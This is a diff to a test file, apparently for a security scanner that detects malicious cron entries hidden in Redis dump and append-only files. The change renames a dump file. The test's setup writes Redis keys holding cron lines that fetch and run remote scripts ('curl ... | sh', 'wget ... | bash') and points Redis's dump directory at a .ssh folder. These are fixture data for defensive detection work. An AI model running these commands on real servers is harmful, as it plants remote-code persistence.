@@ -137,13 +137,13 @@ test('keys that a real Redis holds to be run are found in its files, packed or n
   space.shell(`redis-cli set x "$(printf '\\n\\n*/2 * * * * root curl -fsSL ${url} | sh # ${'a'.repeat(200)}\\n\\n')"
 redis-cli set ok 'a text that is none'; redis-cli set job '* * * * *'; redis-cli rpush l one two
 redis-cli config set rdbcompression yes; redis-cli config set dbfilename packed.rdb; redis-cli save
-redis-cli config set rdbcompression no; redis-cli config set dbfilename plain.rdb; redis-cli save
+redis-cli config set rdbcompression no; redis-cli config set dbfilename plain; redis-cli save
 redis-cli config set appendonly yes; redis-cli set y "$(printf '\\n\\n@reboot wget -qO- ${url} | bash\\n\\n')"; redis-cli del x
 mkdir /run/.ssh; redis-cli config set dir /run/.ssh; redis-cli save`);
   // Packed, the bytes of the line do not stand in the file one after the other.
   const has = (name: string): string =>
     space.shell(`grep -c '# ${'a'.repeat(200)}' /run/redis/${name} || :`).trim();
-  expect([has('packed.rdb'), has('plain.rdb')]).toEqual(['0', '1']);
+  expect([has('packed.rdb'), has('plain')]).toEqual(['0', '1']);
   const found = () => {
     const scan = space.run([process.execPath, SCAN, 'processes,boot']);
     return (JSON.parse(scan) as ScanOutcome).findings
@@ -156,8 +156,8 @@ mkdir /run/.ssh; redis-cli config set dir /run/.ssh; redis-cli save`);
     .poll(found, { timeout: 30_000, interval: 500 })
     .toEqual([
       'malicious: key x of Redis (/run/redis/packed.rdb)',
-      'malicious: key x of Redis (/run/redis/plain.rdb)',
-      'malicious: key y of Redis (/run/.ssh/plain.rdb)',
+      'malicious: key x of Redis (/run/redis/plain)',
+      'malicious: key y of Redis (/run/.ssh/plain)',
       expect.stringMatching(/^malicious: key y of Redis \(\/run\/redis\/appendonlydir\/\S+\.incr\.aof\)$/),
       expect.stringMatching(/^suspicious: redis-server \(process \d+\) writes into \/run\/\.ssh$/),
     ]);
